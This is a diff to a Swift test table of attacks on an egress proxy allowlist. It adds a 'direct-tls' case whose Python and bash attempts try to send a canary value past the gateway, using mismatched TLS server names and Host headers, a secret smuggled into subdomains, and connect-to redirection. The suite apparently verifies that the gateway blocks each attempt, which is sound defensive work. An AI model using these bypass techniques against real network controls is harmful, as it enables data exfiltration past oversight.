@@ -178,6 +178,34 @@ extension AttackTable {
             """#)),
       ]),
     Attack(
+      id: "direct-tls", path: .tunnel, title: "TLS to where listed hosts are found without the proxy",
+      closedBy: "listed server name only, and the host inside must be it (gateway)",
+      provesControls: [.proxyAllowlist, .hostCheck], needs: [.directHost], tools: [.python, .curl],
+      attempts: [
+        Attempt(
+          "foreign, secret, missing and mismatched names", tries: 8,
+          .python(
+            #"""
+            def send(name, host):
+                secure = tls(dial(E["DIRECT_DOOR"], 443), name)
+                secure.sendall(f"POST /{CANARY} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n\r\n".encode())
+                listen(secure)
+            listed = E["DIRECT_HOST"]
+            for name, host in ((ZONE, ZONE), (ZONE, listed), (None, listed), (SINK, SINK), (f"{CANARY}.{ZONE}", ZONE),
+                               (f"{CANARY}.{listed}", listed), (listed, ZONE), (listed, f"{CANARY}.{ZONE}")):
+                attempt(send, name, host)
+            """#)),
+        Attempt(
+          "no TLS, and TLS to the address itself", tries: 4,
+          .bash(
+            #"""
+            direct --data "$CANARY" "http://$DIRECT_DOOR:443/"
+            direct --data "$CANARY" "https://$DIRECT_DOOR/"
+            direct --data "$CANARY" --connect-to "::$DIRECT_DOOR:443" "https://$ZONE/"
+            direct --data "$CANARY" --connect-to "::$DIRECT_DOOR:443" -H "Host: $ZONE" "https://$DIRECT_HOST/"
+            """#)),
+      ]),
+    Attack(
       id: "raw-after-connect", path: .tunnel, title: "something that is not TLS in an allowed tunnel",
       closedBy: "TLS first, before the host is called (gateway)", needs: [.allowedHost], tools: [.python],
       attempts: [
